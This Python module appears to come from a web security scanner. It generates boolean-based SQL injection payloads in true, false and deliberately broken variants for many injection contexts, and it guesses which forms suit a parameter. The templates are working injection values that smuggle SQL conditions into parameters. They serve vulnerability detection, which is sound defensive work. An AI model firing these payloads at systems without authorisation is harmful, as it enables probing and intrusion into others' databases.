"""Ways of putting a condition into a SQL statement through one of its values.

Every form leaves the statement valid when it is injectable in that way, and comes in three versions of equal length and
equal characters, so that a page which merely shows, counts or filters its input treats them alike:

- TRUE: the condition holds, so the statement means what it meant with the value alone;
- FALSE: the condition does not hold, so the statement finds less;
- BROKEN: the condition calls a function that does not exist, so a database refuses the statement. Nothing but a SQL
  parser that looks functions up can tell it from TRUE. It works where the page shows no rows at all.

Safety. The injected text may land in an UPDATE or DELETE. No form can make such a statement reach more rows than the
plain value does: conditions are joined by AND, or replace the value by an equal value or by NULL. There is no OR, no
comment that cuts off the rest of a WHERE clause, no second statement, and no `+` or arithmetic on strings, which MySQL
turns into the number 0, equal to every text without digits. `||` is sent only with empty text or one letter: where MySQL
reads it as OR, both count as false, so it adds no row.
"""

from __future__ import annotations

import enum
import re

import msgspec


class Version(enum.StrEnum):
    """Which of the three versions of a form."""

    TRUE = "true"
    FALSE = "false"
    BROKEN = "broken"


class Form(msgspec.Struct, frozen=True):
    """One way. `template` holds `{value}` and `{condition}`."""

    name: str
    template: str

    def payload(self, value: str, condition: str) -> str:
        """Return the value to send."""
        return self.template.replace("{condition}", condition).replace("{value}", value)


SINGLE_QUOTED = Form("a text in single quotes", "{value}' AND {condition} AND 'k' LIKE 'k")
DOUBLE_QUOTED = Form("a text in double quotes", '{value}" AND {condition} AND "k" LIKE "k')
PATTERN = Form("a LIKE pattern", "{value}%' AND {condition} AND 'k' LIKE 'k")
CONCATENATED = Form(
    "a text that is joined to other text", "{value}'||(CASE WHEN {condition} THEN '' ELSE 'k' END)||'"
)
WRITTEN = Form("a text that is stored", "{value}' LIKE (CASE WHEN {condition} THEN 'k' ELSE 'j' END) LIKE 'k")
PARENTHESISED_TEXT = Form(
    "a text in single quotes and parentheses", "{value}') AND {condition} AND ('k' LIKE 'k"
)
BARE = Form("a value without quotes", "{value} AND {condition}")
PARENTHESISED = Form("a value without quotes, in parentheses or a list", "{value}) AND {condition} AND (7=7")
PRODUCT = Form("a number in an expression", "{value}*(CASE WHEN {condition} THEN 1 ELSE NULL END)")
SORTING = Form("what the rows are sorted by", "(CASE WHEN {condition} THEN {value} END)")
DIRECTION = Form("the direction of sorting", "{value},(CASE WHEN {condition} THEN 1 END)")

QUOTED_FORMS = (
    SINGLE_QUOTED,
    CONCATENATED,
    WRITTEN,
    PARENTHESISED_TEXT,
    DOUBLE_QUOTED,
    PATTERN,
)

_CONDITIONS = (
    # Functions of every SQL database; the second name of a pair exists in none.
    ("abs({small})={right}", "abs", "abq"),
    ("coalesce({small},{other})={right}", "coalesce", "coalescq"),
    ("nullif({small},{other})={right}", "nullif", "nulliq"),
)
_NUMERIC = re.compile(r"-?\d+(?:\.\d+)?")
_DATE_OR_NUMBERS = re.compile(r"\d[\d.:/ -]*")
_DIRECTION = re.compile(r"asc|desc", re.IGNORECASE)
_COLUMN = re.compile(r"[A-Za-z_][\w.]{0,60}")
_SORTED_BY = re.compile(
    r"sort|order|orderby|col|column|field|by|dir|direction|group|groupby|sortby|sidx|sord", re.IGNORECASE
)


def condition(number: int, version: Version, constant: int) -> str:
    """Return a condition. `number` chooses the function, and `constant` (10 to 49) makes repeated ones differ."""
    template, name, missing = _CONDITIONS[number % len(_CONDITIONS)]
    right = constant + 37 if version is Version.FALSE else constant
    text = template.format(small=constant, other=constant + 41, right=right)
    return text.replace(name, missing) if version is Version.BROKEN else text


def is_numeric(value: str) -> bool:
    """Whether a value is a plain number."""
    return _NUMERIC.fullmatch(value) is not None


def stands_bare(value: str) -> bool:
    """Whether a value is one that statements hold without quotes: a number, or a date."""
    return is_numeric(value) or _DATE_OR_NUMBERS.fullmatch(value) is not None


def bare_forms(value: str, words: set[str]) -> list[Form]:
    """Return the forms without quotes that a parameter whose name holds these words may need for a value, best first."""
    sorting = any(_SORTED_BY.fullmatch(word) for word in words)
    if _DIRECTION.fullmatch(value):
        return [DIRECTION]
    if stands_bare(value):
        return [SORTING, BARE] if sorting else [BARE, PARENTHESISED, PRODUCT]
    if _COLUMN.fullmatch(value):
        return [SORTING] if sorting else []
    return []
